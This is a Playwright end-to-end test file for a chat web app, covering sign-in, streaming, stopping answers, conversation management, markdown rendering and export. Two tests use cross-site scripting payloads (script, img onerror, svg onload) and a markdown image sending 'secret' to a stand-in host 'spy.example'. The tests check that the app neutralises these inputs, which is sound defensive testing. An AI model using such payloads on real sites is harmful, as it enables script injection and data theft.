"""Chatting, as a person sees it."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.chatting import ask, choose_model, conversation, last_answer, more, new_chat, send, sign_in
from tests.e2e.conftest import Console
from tests.studio import Studio

# Notes the length of the answer whenever it changes, so that growing can be told from appearing at once.
_NOTE_LENGTHS = """() => {
  window.lengths = [];
  new MutationObserver(() => {
    const length = document.querySelector("[data-testid=message-assistant] .markdown")?.textContent.length ?? 0;
    if (length && window.lengths.at(-1) !== length) window.lengths.push(length);
  }).observe(document.body, { childList: true, subtree: true, characterData: true });
}"""


def test_a_person_signs_in_through_the_form_and_chats(page: Page, studio: Studio) -> None:
    page.goto("/")
    expect(page).to_have_url(re.compile(r"/login"))
    sign_in(page, *studio.first_login)
    choose_model(page, "Echo")
    expect(ask(page, "Good morning")).to_contain_text("You said: Good morning")


def test_a_wrong_password_is_told_in_words(page: Page, studio: Studio, console: Console) -> None:
    console.expect(r"40[013] .* at \S+/api/auth/login$")
    page.goto("/login")
    page.get_by_label("User name").fill(studio.first_login[0])
    page.get_by_label("Password").fill("not-the-password")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_be_visible()
    expect(page.get_by_role("button", name="Sign in")).to_be_enabled()


def test_signing_out_leads_back_to_the_form(page: Page, studio: Studio, console: Console) -> None:
    console.expect(r"401 .* at \S+/api/")  # what the page was still asking for when the session ended
    sign_in(page, *studio.first_login)
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("button", name="Sign in")).to_be_visible()
    page.goto("/plugins")
    expect(page).to_have_url(re.compile(r"/login"))


def test_an_answer_grows_while_it_streams(operator_page: Page, configured: Callable[..., None]) -> None:
    configured("example-provider", delay_ms=20)
    new_chat(operator_page, "Story")
    operator_page.evaluate(_NOTE_LENGTHS)
    answer = ask(operator_page, "Tell me of the grey cat")
    expect(answer).to_contain_text("the grey cat")
    expect(answer).to_contain_text("it is lying there still.")
    lengths = operator_page.evaluate("window.lengths")
    assert len(lengths) >= 3, f"it came in {len(lengths)} pieces"
    assert lengths == sorted(lengths), "what was shown was taken back"


def test_a_tool_call_is_a_card_that_opens(operator_page: Page) -> None:
    new_chat(operator_page)
    answer = ask(operator_page, "calculate 6*7")
    card = answer.get_by_test_id("tool-call")
    expect(card.locator("summary")).to_contain_text("calculator")
    expect(card.locator("summary")).to_contain_text("Done")
    expect(card.get_by_text("Arguments")).to_be_hidden()
    card.locator("summary").click()
    expect(card.locator("section", has_text="Arguments")).to_contain_text("6*7")
    expect(card.locator("section", has_text="Result")).to_contain_text("42")
    expect(answer).to_contain_text("calculator.evaluate answered")


def test_a_conversation_is_in_the_sidebar_and_survives_a_reload(operator_page: Page) -> None:
    new_chat(operator_page)
    ask(operator_page, "calculate 12*12")
    ask(operator_page, "and thank you")
    expect(conversation(operator_page, "calculate 12*12")).to_be_visible()
    expect(operator_page).to_have_url(re.compile(r"/c/"))
    before = operator_page.get_by_role("log").inner_text()
    operator_page.reload()
    expect(last_answer(operator_page)).to_contain_text("and thank you")
    expect(operator_page.get_by_test_id("tool-call")).to_have_attribute("data-status", "done")
    expect(conversation(operator_page, "calculate 12*12")).to_have_attribute("aria-current", "page")
    assert _words(operator_page.get_by_role("log").inner_text()) == _words(before)


def test_a_conversation_is_opened_from_the_sidebar(operator_page: Page) -> None:
    for text in ("the first of two", "the second of two"):
        new_chat(operator_page)
        ask(operator_page, text)
    conversation(operator_page, "the first of two").click()
    expect(last_answer(operator_page)).to_contain_text("You said: the first of two")
    operator_page.get_by_test_id("new-chat").click()
    expect(operator_page.get_by_role("heading", name="What can I help with?")).to_be_visible()


def test_a_conversation_is_renamed(operator_page: Page) -> None:
    new_chat(operator_page)
    ask(operator_page, "a name that will change")
    more(operator_page, "a name that will change", "Rename")
    operator_page.get_by_label("New title").fill("A better name")
    operator_page.keyboard.press("Enter")
    expect(conversation(operator_page, "A better name")).to_be_visible()
    operator_page.reload()
    expect(conversation(operator_page, "A better name")).to_be_visible()
    expect(conversation(operator_page, "a name that will change")).to_have_count(0)


def test_deleting_a_conversation_can_be_undone(operator_page: Page) -> None:
    new_chat(operator_page)
    ask(operator_page, "delete me, please")
    address = operator_page.url
    more(operator_page, "delete me, please", "Delete")
    expect(conversation(operator_page, "delete me, please")).to_have_count(0)
    operator_page.get_by_role("button", name="Undo").click()
    expect(conversation(operator_page, "delete me, please")).to_be_visible()
    operator_page.goto(address)
    expect(last_answer(operator_page)).to_contain_text("delete me, please")


def test_a_deleted_conversation_does_not_come_back_with_a_reload(operator_page: Page, console: Console) -> None:
    console.expect(r"404 .* at \S+/api/conversations/")
    new_chat(operator_page)
    ask(operator_page, "gone for good")
    address = operator_page.url
    more(operator_page, "gone for good", "Delete")
    expect(operator_page.get_by_text("Deleted “gone for good”")).to_be_visible()
    operator_page.reload()
    expect(operator_page.get_by_role("heading", name="What can I help with?")).to_be_visible()
    expect(conversation(operator_page, "gone for good")).to_have_count(0)
    operator_page.goto(address)
    expect(operator_page.get_by_role("alert")).to_be_visible()


def test_a_long_answer_is_stopped(operator_page: Page, configured: Callable[..., None]) -> None:
    configured("example-provider", delay_ms=150)  # the whole story would take half a minute
    new_chat(operator_page, "Story")
    send(operator_page, "Tell me of the long river")
    answer = last_answer(operator_page)
    expect(answer).to_contain_text("There was once")
    operator_page.get_by_role("button", name="Stop the answer").click()
    expect(answer.get_by_text("Stopped.")).to_be_visible()
    expect(operator_page.get_by_role("button", name="Send")).to_be_visible()
    expect(answer).not_to_contain_text("it is lying there still.")
    shown = answer.locator(".markdown").inner_text()
    operator_page.reload()
    expect(last_answer(operator_page).get_by_text("Stopped.")).to_be_visible()
    assert last_answer(operator_page).locator(".markdown").inner_text() == shown


def test_escape_stops_an_answer(operator_page: Page, configured: Callable[..., None]) -> None:
    configured("example-provider", delay_ms=150)
    new_chat(operator_page, "Story")
    send(operator_page, "Tell me of the short river")
    expect(last_answer(operator_page)).to_contain_text("There was once")
    operator_page.keyboard.press("Escape")
    expect(last_answer(operator_page).get_by_text("Stopped.")).to_be_visible()


def test_an_answer_goes_on_through_a_reload_of_the_page(operator_page: Page, configured: Callable[..., None]) -> None:
    configured("example-provider", delay_ms=30)
    new_chat(operator_page, "Story")
    send(operator_page, "Tell me of the patient heron")
    expect(last_answer(operator_page)).to_contain_text("There was once")
    operator_page.reload()
    expect(last_answer(operator_page)).to_contain_text("it is lying there still.")
    expect(last_answer(operator_page)).to_have_attribute("data-status", "done")
    expect(last_answer(operator_page).get_by_text("There was once")).to_have_count(1)


def test_shift_enter_makes_a_line_and_enter_sends(operator_page: Page) -> None:
    new_chat(operator_page)
    box = operator_page.get_by_label("Message", exact=True)
    box.press_sequentially("first line")
    box.press("Shift+Enter")
    box.press_sequentially("second line")
    expect(box).to_have_value("first line\nsecond line")
    expect(operator_page.get_by_test_id("message-user")).to_have_count(0)
    box.press("Enter")
    expect(operator_page.get_by_test_id("message-user")).to_have_text("first line\nsecond line")
    expect(box).to_have_value("")
    expect(last_answer(operator_page)).to_have_attribute("data-status", "done")


def test_an_empty_message_cannot_be_sent(operator_page: Page) -> None:
    new_chat(operator_page)
    operator_page.get_by_label("Message", exact=True).fill("   \n ")
    expect(operator_page.get_by_role("button", name="Send")).to_be_disabled()
    operator_page.keyboard.press("Enter")
    expect(operator_page.get_by_test_id("message-user")).to_have_count(0)


def test_markdown_is_rendered(operator_page: Page) -> None:
    new_chat(operator_page)
    answer = ask(operator_page, "a **bold** word\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('x')\n```")
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.get_by_role("table").get_by_role("cell")).to_have_text(["1", "2"])
    expect(answer.locator("pre code")).to_contain_text("print('x')")


@pytest.mark.parametrize(
    "attack",
    [
        "<script>window.attacked = 1</script>",
        "<img src=x onerror='window.attacked = 1'>",
        "<svg onload='window.attacked = 1'><iframe srcdoc='<script>parent.attacked = 1</script>'></iframe></svg>",
    ],
)
def test_html_in_a_message_is_text(operator_page: Page, attack: str) -> None:
    new_chat(operator_page)
    answer = ask(operator_page, f"look: {attack} done")
    expect(operator_page.get_by_test_id("message-user")).to_contain_text(attack)
    expect(answer).to_contain_text(attack.split(" ")[0])
    expect(answer.locator(":is(script, img, iframe, svg[onload])")).to_have_count(0)
    operator_page.reload()
    expect(last_answer(operator_page)).to_have_attribute("data-status", "done")
    assert operator_page.evaluate("window.attacked") is None


def test_links_and_images_of_an_answer_are_harmless(operator_page: Page) -> None:
    new_chat(operator_page)
    said = "[go](javascript:window.attacked=1) and ![pixel](https://spy.example/p.png?said=secret)"
    answer = ask(operator_page, said)
    assert "javascript" not in (answer.get_by_text("go", exact=True).get_attribute("href") or "")
    expect(answer.locator("img")).to_have_count(0)
    expect(answer.get_by_role("link", name="Image: pixel")).to_be_visible()


def test_a_failed_answer_says_why_and_can_be_asked_again(operator_page: Page, studio: Studio, console: Console) -> None:
    console.expect(r"4\d\d .* at \S+/api/(chat|conversations)")
    new_chat(operator_page)
    ask(operator_page, "still here?")
    assert studio.http.post("/api/plugins/calculator/unload").status == 200
    try:
        answer = ask(operator_page, 'use calculator.evaluate {"expression": "1+1"}')
        expect(answer).to_contain_text("I was not offered calculator.evaluate")
    finally:
        assert studio.http.post("/api/plugins/load", {"plugin_id": "calculator"}).status == 200
    answer.get_by_role("button", name="Ask again").click()
    expect(last_answer(operator_page)).to_contain_text("answered 2")


def test_redaction_happens_before_the_model_sees_the_message(operator_page: Page, studio: Studio) -> None:
    """What it shows is how it is without restoring: the model of the tests repeats what it was told."""
    config = "/api/plugins/redact/config"
    assert studio.http.patch(config, {"config": {"style": "typed"}}).status == 200
    try:
        new_chat(operator_page)
        answer = ask(operator_page, "write to ada@example.com today")
        expect(answer).to_contain_text("[email]")
        expect(answer).not_to_contain_text("ada@example.com")
    finally:
        assert studio.http.patch(config, {"config": {"style": "reversible"}}).status == 200
    expect(ask(operator_page, "write to ada@example.com tomorrow")).to_contain_text("ada@example.com")


def test_formulas_are_set(operator_page: Page) -> None:
    new_chat(operator_page)
    answer = ask(operator_page, r"it is \( n^2 \), for $5 or $10")
    expect(answer.locator(".katex annotation")).to_have_text("n^2")
    expect(answer).to_contain_text("for $5 or $10")


def test_a_conversation_is_exported_as_markdown(operator_page: Page) -> None:
    new_chat(operator_page)
    ask(operator_page, "calculate 5*5")
    with operator_page.expect_download() as download:
        more(operator_page, "calculate 5*5", "Export as Markdown")
    text = download.value.path().read_text()
    assert download.value.suggested_filename.endswith(".md")
    assert "calculate 5*5" in text
    assert "calculator.evaluate answered 25" in text


def test_the_dark_theme_is_kept(operator_page: Page) -> None:
    operator_page.goto("/")
    operator_page.get_by_role("button", name="Settings").click()
    operator_page.get_by_text("Dark", exact=True).click()
    expect(operator_page.locator("html")).to_have_attribute("data-theme", "dark")
    operator_page.reload()
    expect(operator_page.locator("html")).to_have_attribute("data-theme", "dark")


def _words(text: str) -> str:
    """Without what only a live answer tells: how long it took."""
    return re.sub(r" · [\d.]+ m?s", "", text)
